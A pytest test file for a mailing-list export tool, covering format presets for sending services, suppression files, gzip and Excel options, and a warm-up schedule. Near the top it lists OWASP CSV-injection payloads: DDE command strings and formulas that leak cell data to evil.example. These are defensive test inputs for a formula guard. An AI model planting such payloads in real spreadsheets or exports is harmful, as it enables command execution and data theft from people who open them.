"""Exports for sending tools: every preset's files, suppression files of addresses only, the formula
guard that leaves numbers alone, --excel, --gzip and --max-rows, and byte-identical reruns."""

from __future__ import annotations

import csv
import dataclasses
import gzip
import io
import json
from pathlib import Path

import polars as pl
import pytest
from conftest import SAMPLE, run_cli, runs_as_formula, tree_digest
from email_validator import EmailNotValidError, validate_email

import listkit
from listkit.addresses import ascii_addresses
from listkit.errors import ConfigError
from listkit.presets import SEGMENT_PRESETS, SUPPRESSION_PRESETS

#: The address header each tool's contact import documents (tests/fixtures/imports/README.md).
ADDRESS_HEADER = {"generic": "email", "mailchimp": "Email Address", "sendgrid": "email", "klaviyo": "Email",
                  "brevo": "EMAIL", "mailgun": "address", "ses-contacts": "emailAddress"}  # fmt: skip
#: OWASP's CSV-injection payloads (cheat sheet and test cases), and cells that are data, not formulas.
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1+1",
    "\r=1+1",
    "-5 + 1",
    "+44 20 7946 0958",
    "-2026-01-01",  # a signed date: a spreadsheet computes it
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
]
DATA = ["-5", "+44", "3.5", "-3.5e2", "-0", "2026-03-01", "-05:00", "+0530", "-1,5"]


def read_csv_bytes(data: bytes, *, header: bool = True) -> pl.DataFrame:
    """A CSV file's cells as text (BOM and gzip undone), read with Python's csv module as a tool would."""
    if data[:2] == b"\x1f\x8b":
        data = gzip.decompress(data)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    names = rows[0] if header else [f"column_{i}" for i in range(len(rows[0]))] if rows else []
    body = rows[1:] if header else rows
    return pl.DataFrame(
        [dict(zip(names, row, strict=True)) for row in body], schema=dict.fromkeys(names, pl.String)
    )


def read_all(folder: Path, prefix: str) -> pl.DataFrame:
    """Every CSV part of the files under ``prefix`` (``segments/``...), concatenated in name order."""
    frames = [read_csv_bytes(p.read_bytes()) for p in sorted(folder.glob(prefix + "*")) if p.is_file()]
    return pl.concat(frames, how="diagonal") if frames else pl.DataFrame()


def is_address(text: str) -> bool:
    try:
        validate_email(text, check_deliverability=False)
    except EmailNotValidError:
        return False
    return True


@pytest.fixture(scope="module")
def sample_result() -> listkit.RunResult:
    return listkit.run_files(SAMPLE / "mailchimp_subscribed_members_export.csv", SAMPLE / "events.csv")


@pytest.mark.parametrize("preset", sorted(SEGMENT_PRESETS))
def test_every_kept_row_is_in_exactly_one_segment_file_in_each_tools_shape(sample_result, preset, tmp_path):
    listkit.export(sample_result, tmp_path / "out", report=False, format=preset)
    rows = read_all(tmp_path / "out", "segments/")
    header = ADDRESS_HEADER[preset]
    assert rows.columns[0] == header
    kept = sample_result.ledger.filter(pl.col("outcome") == "keep")
    expected = kept["email_normalized"]
    if preset == "ses-contacts":  # SES takes ASCII addresses: an internationalised domain in Punycode
        expected = ascii_addresses(expected).fill_null(expected)
    assert sorted(rows[header]) == sorted(expected)  # promise 1, in every shape
    suppressed = set(sample_result.suppression["email"].str.to_lowercase())
    assert not set(rows[header].str.to_lowercase()) & suppressed  # promise 2, in every shape


@pytest.mark.parametrize("preset", sorted(SUPPRESSION_PRESETS))
def test_suppression_files_hold_every_suppressed_address_and_nothing_else(sample_result, preset, tmp_path):
    out = tmp_path / "out"
    listkit.export(sample_result, out, report=False, suppression_format=preset)
    generic = read_csv_bytes((out / "suppression.csv").read_bytes())
    assert generic.columns == ["email", "reason", "suppressed_at"]
    files = sorted((out / "suppression").glob("*.csv")) if preset != "generic" else []
    assert bool(files) == (preset != "generic")
    addresses = set()
    for path in files:
        no_header = preset == "ses"
        frame = read_csv_bytes(path.read_bytes(), header=not no_header)
        column = frame.columns[0]
        assert all(is_address(a) for a in frame[column]), path.name
        addresses |= set(frame[column])
        if no_header:  # one "address,BOUNCE|COMPLAINT" line per address
            assert set(frame["column_1"]) <= {"BOUNCE", "COMPLAINT"} and frame.width == 2
    assert all(is_address(a) for a in generic["email"])
    if files:
        expected = generic["email"]
        if SUPPRESSION_PRESETS[preset].ascii_domains:  # SES never sends to a non-ASCII local part
            expected = ascii_addresses(expected).drop_nulls()
        assert addresses == set(expected)


def test_text_that_is_not_an_address_never_reaches_a_suppression_file(tmp_path):
    listing = tmp_path / "list.csv"
    listing.write_text(
        "email,status\n@gmail.com,unsubscribed\namarajonesirongroup.com,unsubscribed\n"
        '"ahmed.gonzalez@hotmail,com",cleaned\nann@example.com,unsubscribed\nbob@example.com,subscribed\n'
    )
    out = tmp_path / "out"
    assert (
        run_cli("run", "--subscribers", listing, "--out", out, "--no-report", "--suppression-format", "ses")
        == 0
    )
    assert read_csv_bytes((out / "suppression.csv").read_bytes())["email"].to_list() == ["ann@example.com"]
    assert (out / "suppression" / "ses.csv").read_text() == "ann@example.com,COMPLAINT\n"
    ledger = pl.read_csv(out / "ledger.csv", infer_schema=False)
    assert ledger.filter(pl.col("reasons").str.contains("invalid_syntax")).height == 3  # explained there
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["counts"]["suppression_not_addresses"] == 3
    assert manifest["counts"]["suppression_rows"] == 1


def test_the_guard_neutralises_every_owasp_payload_and_leaves_signed_numbers_and_offsets():
    from listkit.formula import formula_safe

    cells = [*OWASP, "\x00=1+1", *DATA]  # NUL (OWASP's ASVS) cannot come through a CSV input: tested here
    guarded = formula_safe(pl.DataFrame({"note": cells}))["note"].to_list()
    assert guarded[: len(OWASP) + 1] == ["'" + cell for cell in [*OWASP, "\x00=1+1"]]
    assert guarded[len(OWASP) + 1 :] == DATA
    assert not any(runs_as_formula(cell) for cell in guarded)


def owasp_list(path: Path) -> Path:
    """A Mailchimp-shaped export whose names and extra columns hold OWASP payloads and signed numbers."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Email Address", "First Name", "Last Name", "GMTOFF", "NOTES", "=HEADER", "TAGS"])
        for number, payload in enumerate(OWASP):
            value = DATA[number % len(DATA)]
            writer.writerow([f"reader{number}@example.com", payload, value, value, payload, payload, payload])
    return path


@pytest.mark.parametrize("preset", sorted(SEGMENT_PRESETS))
def test_no_cell_of_any_shape_runs_as_a_formula_and_numbers_stay_numbers(preset, tmp_path):
    listing = owasp_list(tmp_path / "list.csv")
    out = tmp_path / "out"
    args = ["run", "--subscribers", listing, "--out", out, "--no-report", "--format", preset]
    assert run_cli(*args, "--suppression-format", "mailgun") == 0
    for path in sorted(out.rglob("*.csv")):
        frame = read_csv_bytes(path.read_bytes())
        assert not [h for h in frame.columns if runs_as_formula(h)], path.name
        for name in frame.columns:
            live = [cell for cell in frame[name] if runs_as_formula(cell)]
            assert not live, (path.name, name, live)
    ledger = pl.read_csv(out / "ledger.csv", infer_schema=False)
    assert ledger["GMTOFF"].to_list() == [DATA[n % len(DATA)] for n in range(len(OWASP))], "data unaltered"
    assert ledger["last_name"].to_list() == ledger["GMTOFF"].to_list()


def test_excel_gzip_and_parts_change_the_bytes_not_the_rows(sample_result, tmp_path):
    plain, shaped = tmp_path / "plain", tmp_path / "shaped"
    listkit.export(sample_result, plain, report=False, format="sendgrid", suppression_format="mailgun")
    listkit.export(sample_result, shaped, report=False, format="sendgrid", suppression_format="mailgun",
                   excel=True, gzip=True, max_rows=7)  # fmt: skip
    for path in shaped.rglob("*.csv*"):
        data = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
        # Files for people and upload pages get the BOM; Mailgun's API imports never do.
        assert data.startswith(b"\xef\xbb\xbf") == (not path.name.startswith("mailgun-")), path.name
    ses = tmp_path / "ses"
    listkit.export(sample_result, ses, report=False, suppression_format="ses", excel=True)
    first = (ses / "suppression" / "ses.csv").read_text(encoding="utf-8").splitlines()[0]
    assert is_address(first.split(",")[0]), "no BOM glued to the first address of a file without header"
    assert (ses / "suppression.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    # Import files are gzipped and split; listkit's own files (ledger, suppression.csv) only get the BOM.
    for name in ("ledger.csv", "suppression.csv"):
        assert (shaped / name).read_bytes() == b"\xef\xbb\xbf" + (plain / name).read_bytes()
    assert not list(shaped.glob("segments/*.csv")) and not list(shaped.glob("suppression/*.csv"))
    manifest = json.loads((shaped / "manifest.json").read_text())
    for name in ("segments/", "suppression/"):
        parts = sorted(n for n in manifest["files"] if n.startswith(name) and n.endswith(".csv.gz"))
        assert parts and all(".part-" in n for n in parts)
        assert all(1 <= manifest["files"][n]["rows"] <= 7 for n in parts)
    for prefix in ("segments/", "suppression/mailgun-bounces", "suppression/mailgun-unsubscribes"):
        assert read_all(shaped, prefix).equals(read_all(plain, prefix)), prefix
    engaged = sorted(shaped.glob("segments/engaged.part-*.csv.gz"))
    assert [p.name for p in engaged[:2]] == ["engaged.part-01.csv.gz", "engaged.part-02.csv.gz"]
    assert manifest["export"] == {"format": "sendgrid", "suppression_format": "mailgun", "excel": True,
                                  "gzip": True, "max_rows": 7}  # fmt: skip


def test_a_tools_own_cap_on_one_file_splits_it(tmp_path):
    # Amazon SES takes at most 100,000 addresses per suppression-list import file.
    emails = pl.Series("email", [f"r{n}@example.com" for n in range(100_001)])
    from listkit.csvfiles import write_csv
    from listkit.presets import suppression_tables

    frame = pl.DataFrame({"email": emails, "reason": "hard_bounce"}).with_columns(
        *(pl.lit(None, pl.Datetime("us", "UTC")).alias(c)
          for c in ("suppressed_at", "unsubscribed_at", "complaint_at", "hard_bounce_at")),
        bounce_status=pl.lit(None, pl.String), bounce_reason=pl.lit(None, pl.String),
    )  # fmt: skip
    (table,) = suppression_tables(frame, "ses")
    written = write_csv(table.frame, tmp_path, "ses.csv", import_file=True, header=False,
                        address_columns=("emailAddress",), tool_max_rows=table.max_rows)  # fmt: skip
    assert written == {"ses.part-01.csv": 100_000, "ses.part-02.csv": 1}
    assert (tmp_path / "ses.part-02.csv").read_text() == "r100000@example.com,BOUNCE\n"


def test_reruns_with_every_option_are_byte_identical(tmp_path):
    runs = []
    for name in ("first", "second"):
        out = tmp_path / name
        args = ["run", "--subscribers", SAMPLE / "subscribers.csv", "--events", SAMPLE / "events.csv",
                "--out", out, "--no-report", "--format", "klaviyo", "--suppression-format", "mailgun",
                "--excel", "--gzip", "--max-rows", "200"]  # fmt: skip
        assert run_cli(*args) == 0
        manifest = json.loads((out / "manifest.json").read_text())
        del manifest["run_time"]
        runs.append((tree_digest(out, skip=("manifest.json",)), manifest))
    assert runs[0] == runs[1]
    digests, manifest = runs[0]
    assert {name: entry["sha256"] for name, entry in manifest["files"].items()} == digests


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ({"format": "hubspot"}, "choose one of generic, mailchimp"),
        ({"suppression_format": "mailchimp"}, "choose one of generic, mailgun"),
        ({"max_rows": 0}, "max_rows must be a whole number from 1"),
        ({"max_rows": 2.5}, "max_rows must be a whole number from 1"),
        ({"excel": "yes"}, "excel must be true or false"),
    ],
)
def test_bad_export_options_are_refused_before_anything_is_written(sample_result, options, words, tmp_path):
    with pytest.raises(ConfigError, match=words):
        listkit.export(sample_result, tmp_path / "out", report=False, **options)
    assert not (tmp_path / "out").exists()


def test_the_cli_refuses_a_bad_max_rows_with_one_line(tmp_path, capsys):
    code = run_cli(
        "run", "--subscribers", SAMPLE / "subscribers.csv", "--out", tmp_path / "out", "--max-rows", "0"
    )
    assert code == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "max_rows must be a whole number" in err
    assert not (tmp_path / "out").exists()


def test_the_warm_up_plan_mails_only_kept_readers_in_growing_daily_batches(sample_result, tmp_path):
    options = {"warmup_days": 8, "warmup_first_day": 10}
    policy = sample_result.policy.with_options(options, source=dict.fromkeys(options, "test"))
    result = dataclasses.replace(sample_result, policy=policy)
    out = tmp_path / "out"
    listkit.export(result, out, report=False, format="klaviyo", max_rows=150)
    manifest = json.loads((out / "manifest.json").read_text())
    days = {}
    for name, entry in manifest["files"].items():
        if name.startswith("warmup/"):
            day = int(name.split("day-")[1][:2])
            frame = read_csv_bytes((out / name).read_bytes())
            assert frame.columns[0] == "Email" and frame.height == entry["rows"] <= 150
            days.setdefault(day, []).append(frame)
    assert sorted(days) == list(range(1, len(days) + 1)) and len(days) >= 5
    batches = {day: pl.concat(parts) for day, parts in days.items()}
    sizes = [batches[day].height for day in sorted(batches)]
    assert sizes[:5] == sorted(sizes[:5]) and sizes[1] > sizes[0]  # growing while the list lasts
    planned = pl.concat(batches.values())["Email"]
    assert planned.is_unique().all()
    kept = sample_result.ledger.filter(pl.col("outcome") == "keep")
    assert set(planned) <= set(kept["email_normalized"])  # never a pruned, hence a suppressed, address
    scores = {d: batches[d]["listkit_score"].replace("", None).cast(pl.Float64) for d in batches}
    assert scores[1].mean() > scores[max(scores)].mean()  # the most engaged first
    schedule = manifest["warmup"]
    assert sum(row["rows"] for row in schedule if row["day"] is not None) == planned.len()
    assert {row["provider"] for row in schedule} >= {"Gmail", "Microsoft", "Yahoo/AOL"}


def test_a_segment_named_like_a_part_of_another_never_overwrites_it(sample_result, tmp_path):
    # An earlier run's profile may hand on any safe name, "casual.part-01" not among them; and two
    # outputs under one name are refused rather than one silently replacing the other.
    renamed = sample_result.ledger.with_columns(
        segment=pl.when(pl.col("segment") == "engaged").then(pl.lit("casual-part-01")).otherwise("segment")
    )
    result = dataclasses.replace(sample_result, ledger=renamed)
    out = tmp_path / "out"
    listkit.export(result, out, report=False, max_rows=50)
    rows = read_all(out, "segments/")
    assert sorted(rows["email"]) == sorted(renamed.filter(pl.col("outcome") == "keep")["email_normalized"])
    clash = dataclasses.replace(
        sample_result,
        ledger=sample_result.ledger.with_columns(
            segment=pl.when(pl.col("segment") == "engaged").then(pl.lit("Casual")).otherwise("segment")
        ),
    )
    with pytest.raises(listkit.OutputError, match=r"would both be written as segments/casual\.csv"):
        listkit.export(clash, tmp_path / "clash", report=False)
    assert not (tmp_path / "clash").exists()


def test_the_generic_suppression_list_is_always_one_plain_file(sample_result, tmp_path):
    out = tmp_path / "out"
    listkit.export(sample_result, out, report=False, gzip=True, max_rows=3, suppression_format="klaviyo")
    frame = read_csv_bytes((out / "suppression.csv").read_bytes())
    assert frame.height == sample_result.suppression.height > 3
    assert list(out.glob("suppression/klaviyo.part-*.csv.gz"))


def test_sendgrid_field_names_keep_to_its_100_characters_and_unchanged_names_come_first():
    from listkit.presets import segment_table

    rows = sample_rows().with_columns(
        pl.lit("x").alias("a" * 300), pl.lit("y").alias("segment_input"), pl.lit("z").alias("segment_input_")
    )
    table = segment_table(rows, "sendgrid", passthrough=("a" * 300, "segment_input", "segment_input_"))
    headers = table.frame.columns
    assert all(len(h) <= 100 for h in headers) and len(set(h.lower() for h in headers)) == len(headers)
    assert table.frame["segment_input"].to_list() == ["y"]  # the column that needs no change keeps its name


def sample_rows() -> pl.DataFrame:
    return pl.DataFrame(
        {"email": ["ann@example.com"], "first_name": ["Ann"], "last_name": [None], "segment": ["engaged"],
         "source": ["web"], "score": [50.0]},
        schema_overrides={"last_name": pl.String},
    ).with_columns(signup_at=pl.lit(None, pl.Datetime("us", "UTC"))).select(
        "email", "first_name", "last_name", "signup_at", "source", "segment", "score"
    )  # fmt: skip


def test_ses_gets_ascii_addresses(tmp_path):
    listing = tmp_path / "list.csv"
    listing.write_text("email,status\njurgen@bücher.de,unsubscribed\nmary@bücher.de,subscribed\n"
                       "björn@example.com,unsubscribed\n", encoding="utf-8")  # fmt: skip
    out = tmp_path / "out"
    args = ["run", "--subscribers", listing, "--out", out, "--no-report", "--format", "ses-contacts"]
    assert run_cli(*args, "--suppression-format", "ses") == 0
    assert (out / "suppression" / "ses.csv").read_text() == "jurgen@xn--bcher-kva.de,COMPLAINT\n"
    segment = read_all(out, "segments/")
    assert segment["emailAddress"].to_list() == ["mary@xn--bcher-kva.de"]


@pytest.mark.parametrize("preset", sorted(SEGMENT_PRESETS))
def test_headers_polars_reads_as_patterns_pass_through_as_plain_columns(preset, tmp_path):
    # pl.col("*") is every column and pl.col("^a.*$") a regular expression: as headers they are just names.
    listing = tmp_path / "list.csv"
    listing.write_text("email,*,^a.*$\nann@example.com,=1,x\nbob@example.com,2,y\n")
    out = tmp_path / "out"
    assert run_cli("run", "--subscribers", listing, "--out", out, "--no-report", "--format", preset) == 0
    ledger = pl.read_csv(out / "ledger.csv", infer_schema=False)
    assert ledger["*"].to_list() == ["'=1", "2"] and ledger["^a.*$"].to_list() == ["x", "y"]
    rows = read_all(out, "segments/")
    assert rows.height == 2 and not [c for row in rows.iter_rows() for c in row if c and runs_as_formula(c)]
